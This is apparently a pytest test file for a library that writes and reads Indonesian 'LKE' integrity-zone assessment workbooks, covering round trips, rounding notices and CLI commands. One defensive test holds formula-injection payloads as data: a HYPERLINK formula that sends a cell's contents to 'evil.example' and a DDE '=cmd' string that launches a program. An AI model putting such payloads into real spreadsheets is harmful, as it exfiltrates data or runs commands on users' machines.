"""Writing the LKE workbook: round trips, text that stays text, what a workbook cannot hold."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings

import zi_engine
from tests.lke.conftest import (
    as_the_workbook_holds,
    identity,
    reread,
    rounded_in_a_workbook,
    same_scores,
)
from tests.support import EXAMPLES_DIR
from zi_engine import AnswerEntry, LayeredAnswer, Submission, SubmissionError
from zi_engine.cli import _main as cli
from zi_engine.lke import VALUES_SHEET
from zi_engine.testing import submissions

RUBRIC = zi_engine.load_rubric("permenpan-rb-90-2021")


def test_reading_a_written_workbook_gives_the_submission_back(
    examples: dict[str, Submission], tmp_path: Path
) -> None:
    for name, submission in examples.items():
        once = reread(submission, tmp_path / f"{name}.xlsx")
        # the same scores, and written again the same submission exactly
        assert same_scores(once, as_the_workbook_holds(submission)), name
        assert reread(once, tmp_path / f"{name}-2.xlsx") == once, name


def test_answers_already_in_the_rubrics_form_come_back_equal(tmp_path: Path) -> None:
    submission = zi_engine.load_submission(EXAMPLES_DIR / "rsud-idaman-area-minimum.yaml")
    answers = {
        "mp.p.tim_kerja.a": LayeredAnswer(
            unit=AnswerEntry(
                value="Ya", notes="SK ditetapkan", evidence=["SK 1.pdf", "https://x.go.id/a"]
            ),
            tpi=AnswerEntry(value="Tidak", notes="SK belum ditandatangani"),
        ),
        "mp.r.komitmen_perubahan.a_agen": LayeredAnswer(unit=AnswerEntry(value=12)),
        "hasil.bersih_akuntabel.ipak": LayeredAnswer(unit=AnswerEntry(value=3.62)),
        "mp.p.tim_kerja.b": LayeredAnswer(unit=AnswerEntry(notes="belum diisi")),
    }
    canonical = submission.model_copy(update={"answers": answers})
    assert reread(canonical, tmp_path / "lke.xlsx") == canonical


@settings(max_examples=5, deadline=None)
@given(submission=submissions(RUBRIC, layers=("unit", "tpi")))
def test_a_generated_submission_keeps_its_scores_notes_and_evidence(
    submission: Submission, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("lke") / "lke.xlsx"
    notices: list[zi_engine.Problem] = []
    zi_engine.save_lke(submission, path, notices=notices)
    read = zi_engine.load_lke(path, **identity(submission))  # type: ignore[arg-type]
    assert same_scores(read, as_the_workbook_holds(submission))
    for qid, layered in submission.answers.items():
        back = read.answers.get(qid, LayeredAnswer())
        for layer in ("unit", "tpi"):
            entry, got = getattr(layered, layer), getattr(back, layer)
            kept = entry.evidence if entry is not None and layer == "unit" else []
            if entry is None or (entry.value is None and not entry.notes and not kept):
                assert got is None, (qid, layer)
                continue
            assert got is not None, (qid, layer)
            assert got.notes == entry.notes, (qid, layer)
            assert got.evidence == (entry.evidence if layer == "unit" else []), (qid, layer)
    dropped = sum(1 for a in submission.answers.values() if a.tpi is not None and a.tpi.evidence)
    rounded = sum(
        1
        for a in submission.answers.values()
        for entry in (a.unit, a.tpi)
        if entry is not None and rounded_in_a_workbook(entry.value)
    )
    # the TPI's evidence has no column, a 17-digit number no cell: said, not silent
    codes = [notice.code for notice in notices]
    assert (codes.count("lke.column_missing"), codes.count("lke.number_rounded")) == (
        dropped,
        rounded,
    )
    assert len(codes) == dropped + rounded


def test_a_number_a_cell_cannot_hold_is_said_and_read_back_as_written(tmp_path: Path) -> None:
    # 0.1 + 0.2 needs 17 significant digits; a workbook cell is written with 16
    value = 0.1 + 0.2
    sub = zi_engine.Submission.from_dict(
        {
            "unit": {"id": "U", "name": "Unit", "agency": {"id": "A"}},
            "year": 2026,
            "target": "WBK",
            "answers": {"hasil.bersih_akuntabel.ipak": value},
        }
    )
    notices: list[zi_engine.Problem] = []
    zi_engine.save_lke(sub, tmp_path / "lke.xlsx", notices=notices)
    assert [n.code for n in notices] == ["lke.number_rounded"]
    assert "0.30000000000000004 is written as 0.3" in notices[0].message
    back = zi_engine.load_lke(tmp_path / "lke.xlsx", **identity(sub))  # type: ignore[arg-type]
    answer = back.answers["hasil.bersih_akuntabel.ipak"].unit
    assert answer is not None
    assert answer.value == 0.3


def test_text_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
    submission = zi_engine.load_submission(EXAMPLES_DIR / "dinkes-banjarbaru-wbk.yaml")
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    answers = dict(submission.answers)
    answers["mp.p.tim_kerja.a"] = LayeredAnswer(
        unit=AnswerEntry(value="Ya", notes=hostile, evidence=["=cmd|' /C calc'!A0", "+1+1"])
    )
    submission = submission.model_copy(update={"answers": answers})
    path = zi_engine.save_lke(submission, tmp_path / "lke.xlsx")
    sheet = openpyxl.load_workbook(path)["Jawaban"]
    assert (sheet["L6"].data_type, sheet["L6"].value) == ("s", hostile)
    assert (sheet["M6"].data_type, sheet["M6"].value) == ("s", "=cmd|' /C calc'!A0\n+1+1")
    back = zi_engine.load_lke(path, **identity(submission))  # type: ignore[arg-type]
    assert back.answers["mp.p.tim_kerja.a"] == answers["mp.p.tim_kerja.a"]


def test_a_control_character_is_refused_naming_the_question(tmp_path: Path) -> None:
    submission = zi_engine.load_submission(EXAMPLES_DIR / "dinkes-banjarbaru-wbk.yaml")
    answers = dict(submission.answers)
    answers["mp.p.tim_kerja.b"] = LayeredAnswer(unit=AnswerEntry(value="A", notes="bel\x07"))
    with pytest.raises(SubmissionError, match=r"mp\.p\.tim_kerja\.b \(soal 2\): the note or "):
        zi_engine.save_lke(submission.model_copy(update={"answers": answers}), tmp_path / "x.xlsx")


@pytest.mark.parametrize(
    ("layer", "refusal"),
    [
        ("tpn", "no columns for the TPN layer"),
        # the official workbook has no columns for the preliminary review (induk) either
        ("induk", r"preliminary review \(induk\)"),
    ],
)
def test_a_tpn_or_parent_unit_answer_is_not_dropped_unless_asked(
    tmp_path: Path, layer: str, refusal: str
) -> None:
    submission = zi_engine.load_submission(EXAMPLES_DIR / "kpp-banjarbaru-wbbm.yaml")
    answers = dict(submission.answers)
    answers["mp.p.tim_kerja.a"] = LayeredAnswer(
        unit=AnswerEntry(value="Ya"), **{layer: AnswerEntry(value="Tidak")}
    )
    with_layer = submission.model_copy(update={"answers": answers})
    with pytest.raises(SubmissionError, match=refusal):
        zi_engine.save_lke(with_layer, tmp_path / "x.xlsx")
    path = zi_engine.save_lke(
        with_layer, tmp_path / "x.xlsx", drop_tpn=layer == "tpn", drop_induk=layer == "induk"
    )
    back = zi_engine.load_lke(path, **identity(with_layer))  # type: ignore[arg-type]
    assert back.answers["mp.p.tim_kerja.a"] == LayeredAnswer(unit=AnswerEntry(value="Ya"))


def test_answer_cells_offer_the_options_and_scores_are_named(tmp_path: Path) -> None:
    path = zi_engine.save_lke_template(tmp_path / "blank.xlsx")
    book = openpyxl.load_workbook(path)
    sheet = book["Jawaban"]
    lists = {dv.formula1: str(dv.sqref) for dv in sheet.data_validations.dataValidation}
    assert '"Ya,Tidak"' in lists
    assert {"K6", "N6"} <= set(lists['"Ya,Tidak"'].split())
    assert "K7" in lists['"A,B,C"'].split()
    assert sheet["C6"].value.startswith("Unit kerja telah membentuk tim")
    assert {"ZI_TOTAL", "ZI_PENGUNGKIT", "ZI_HASIL", "ZI_AREA_MANAJEMEN_PERUBAHAN"} <= set(
        book.defined_names
    )
    assert book.defined_names["ZI_TOTAL"].attr_text.startswith(f"'{VALUES_SHEET}'!$C$")
    assert sheet["K125"].value.startswith(f"='{VALUES_SHEET}'!")  # the percentage row
    empty = zi_engine.load_lke(path, unit="U", year=2026)
    assert empty.answers == {}


def test_the_three_commands(tmp_path: Path) -> None:
    def run(*argv: str) -> tuple[int, str, str]:
        out, err = io.StringIO(), io.StringIO()
        return cli.main(["--no-plugins", *argv], out=out, err=err), out.getvalue(), err.getvalue()

    written = tmp_path / "kpp.xlsx"
    code, out, err = run(
        "lke", "write", str(EXAMPLES_DIR / "kpp-banjarbaru-wbbm.yaml"), str(written)
    )
    assert code == 0, err
    assert out == f"wrote {written} (127 questions on sheet 'Jawaban'; scores as live formulas)\n"
    portal = tmp_path / "portal.xlsx"
    code, out, err = run(
        "lke",
        "write",
        str(EXAMPLES_DIR / "kpp-banjarbaru-wbbm.portalrb.json"),
        str(portal),
        "--portalrb",
        "--agency",
        "KEMENKEU",
    )
    assert code == 0, err
    again = tmp_path / "again.xlsx"
    code, out, err = run("lke", "write", str(portal), str(again), "--unit", "KPP", "--year", "2026")
    assert code == 0, err
    code, out, err = run("lke", "template", str(tmp_path / "blank.xlsx"))
    assert (code, out) == (
        0,
        f"wrote {tmp_path / 'blank.xlsx'}: a blank LKE (127 questions on sheet 'Jawaban')\n",
    )
    code, out, err = run("lke", "check", str(written))  # never saved by a spreadsheet
    assert code == 1
    assert (
        err == f"{written}: the workbook carries no computed values to check (it was not "
        "saved by Excel or LibreOffice, or has no score cells zi_engine knows); open it, let "
        "it calculate and save it\n"
    )
    with pytest.raises(SystemExit) as info:  # --year means nothing for a YAML submission
        run("lke", "write", "x.yaml", str(tmp_path / "y.xlsx"), "--year", "2026")
    assert info.value.code == 2
